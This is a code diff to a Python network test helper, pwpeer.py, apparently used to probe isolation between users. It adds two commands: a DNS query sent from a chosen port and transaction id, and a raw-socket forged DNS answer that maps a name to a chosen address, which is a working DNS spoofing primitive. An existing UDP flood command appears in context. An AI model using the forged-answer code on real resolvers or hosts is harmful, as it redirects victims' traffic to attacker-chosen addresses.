@@ -45,6 +45,13 @@ chosen source port (an unprivileged user borrowing a listener's port, a
         C library's resolver: /etc/resolv.conf), connect to its first
         address within TIMEOUT_S -> "ok ADDR" / "timeout ADDR" /
         "noname" (a TIMEOUT_S under 1 s fails on a retransmitted SYN)
+  pwpeer.py dnsask NAME SERVER LPORT TXID TIMEOUT_S  one DNS query (A) for
+        NAME to SERVER:53 from LPORT with transaction id TXID, as whoever
+        runs it: "asked", then the A records of the first answer from
+        SERVER:53 with that id -> "answer ADDR..." / "empty" / "timeout"
+  pwpeer.py dnsspoof SRC DST DPORT TXID NAME ADDR  a forged DNS answer
+        (raw socket) from SRC:53 to DST:DPORT, id TXID: NAME is ADDR, TTL
+        3600 -> "sent"
 """
 import os
 import random
@@ -313,6 +320,41 @@ def cmd_byname(name, port, timeout):
         s.close()
 
 
+def dns_query(txid, name):
+    q = struct.pack("!HHHHHH", txid, 0x0100, 1, 0, 0, 0)
+    for label in name.rstrip(".").split("."):
+        q += bytes([len(label)]) + label.encode()
+    return q + b"\0" + struct.pack("!HH", 1, 1)
+
+
+def cmd_dnsask(name, server, lport, txid, timeout):
+    from scapy.all import DNS  # python3-scapy
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("", lport))
+    s.sendto(dns_query(txid, name), (server, 53))
+    print("asked", flush=True)
+    end = time.monotonic() + timeout
+    while True:
+        r, _, _ = select.select([s], [], [], max(end - time.monotonic(), 0))
+        if not r:
+            return "timeout"
+        b, frm = s.recvfrom(4096)
+        if frm != (server, 53) or len(b) < 12 or struct.unpack_from("!H", b)[0] != txid:
+            continue
+        d = DNS(b)
+        addrs = [d.an[i].rdata for i in range(d.ancount) if d.an[i].type == 1]
+        return "answer " + " ".join(str(a) for a in addrs) if addrs else "empty"
+
+
+def cmd_dnsspoof(src, dst, dport, txid, name, addr):
+    from scapy.all import DNS, DNSQR, DNSRR, IP, UDP  # python3-scapy
+    pkt = IP(src=src, dst=dst) / UDP(sport=53, dport=dport) / DNS(
+        id=txid, qr=1, rd=1, ra=1, qd=DNSQR(qname=name), an=DNSRR(rrname=name, type="A", ttl=3600, rdata=addr))
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw.sendto(bytes(pkt), (dst, 0))
+    return "sent"
+
+
 def main(a):
     try:
         if a[0] == "connect":
@@ -342,6 +384,10 @@ def main(a):
             return cmd_uecho(a[1], int(a[2]), float(a[3]))
         if a[0] == "byname":
             return cmd_byname(a[1], int(a[2]), float(a[3]))
+        if a[0] == "dnsask":
+            return cmd_dnsask(a[1], a[2], int(a[3]), int(a[4], 0), float(a[5]))
+        if a[0] == "dnsspoof":
+            return cmd_dnsspoof(a[1], a[2], int(a[3]), int(a[4], 0), a[5], a[6])
         if a[0] == "udpflood":
             return cmd_udpflood(a[1], int(a[2]), int(a[3]))
     except (IndexError, ValueError):
